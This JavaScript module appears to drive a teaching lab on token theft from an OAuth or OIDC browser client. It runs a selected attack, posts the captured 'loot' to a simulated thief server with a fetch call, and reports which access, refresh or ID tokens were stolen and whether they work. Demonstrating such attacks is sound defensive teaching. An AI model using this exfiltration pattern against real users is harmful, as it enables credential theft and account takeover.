/** The laboratory: runs an attack against the client in force, has the thief's server look at the loot, and shows the outcome. */
import { attacks } from "./lab-attacks.js";
import { announce, byId, count, h, setText } from "./dom.js";
import { busyWhile } from "./view-door.js";

/**
 * @param {() => {auth: object, options: object, address: string}} current What is in force when the button is pressed.
 * @param {string} thief The origin of the thief's server.
 * @param {(title: string, detail: string) => void} log
 */
export function createLabView(current, thief, log) {
  const select = byId("lab-attack");
  select.append(...attacks.map(({ id, title }) => h("option", { value: id }, title)));
  const chosen = () => attacks.find(({ id }) => id === select.value);
  const explain = () => setText(byId("lab-how"), chosen().how);
  select.addEventListener("change", () => (explain(), clear()));
  byId("lab-run").addEventListener("click", () => busyWhile(byId("lab-run"), run));
  explain();

  return {
    show(state) {
      byId("lab-run").disabled = state?.status !== "authenticated";
      byId("lab-note").hidden = state?.status === "authenticated";
    },
    /** Another client is in force; what was got from the last one says nothing of it. */
    reset: clear,
  };

  function clear() {
    setText(byId("lab-result"), "");
    delete byId("lab-result").dataset.got;
    byId("lab-loot").replaceChildren();
  }

  async function run() {
    clear();
    const about = { ...current(), thief };
    const attack = chosen();
    let loot = "";
    let refusal;
    try {
      loot = await attack.run(about);
    } catch (error) {
      refusal = error.code ?? error.name;
    }
    const response = await fetch(`${thief}/loot`, { method: "POST", body: loot.slice(0, MOST) });
    // What was sent to the thief directly, it has said itself.
    const { bytes, tokens } = attack.id === "send" && loot ? JSON.parse(loot) : await response.json();
    if (current().auth !== about.auth) return;
    show({ attack, bytes, tokens, refusal });
  }

  function show({ attack, bytes, tokens, refusal }) {
    const words = tokens.length
      ? `The thief has ${count(tokens.length, "token")}.`
      : refusal
        ? `Refused (${refusal}). The thief has nothing.`
        : attack.id === "use"
          ? "The thief has the API’s answer, and no token to take along."
          : bytes || attack.id !== "send"
            ? `The thief got ${count(bytes, "character")}, and no token among them.`
            : "The thief got a request without a credential.";
    const result = byId("lab-result");
    setText(result, words);
    result.dataset.got = [...new Set(tokens.map(({ kind }) => kind))].sort().join(",");
    byId("lab-loot").replaceChildren(...tokens.map(row));
    announce(words);
    log(`attack: ${attack.title}`, words);
  }
}

/** More than a thief needs, and less than the thief's server takes. */
const MOST = 1_000_000;

function row({ kind, shown, status }) {
  return h(
    "li",
    { dataset: { worth: status === 200 || kind === "refresh token" ? "much" : "little" } },
    h("strong", {}, kind),
    " ",
    h("code", {}, shown),
    h("small", {}, worth(kind, status)),
  );
}

function worth(kind, status) {
  if (kind === "refresh token")
    return "Not tried, as that would sign you out. It brings access tokens until it is revoked.";
  if (kind === "ID token") return "Says who you are. No server here takes it as a key.";
  return status === 200
    ? "Tried at the API, away from this browser: it opens."
    : `Tried at the API, away from this browser: ${status}, it opens nothing.`;
}
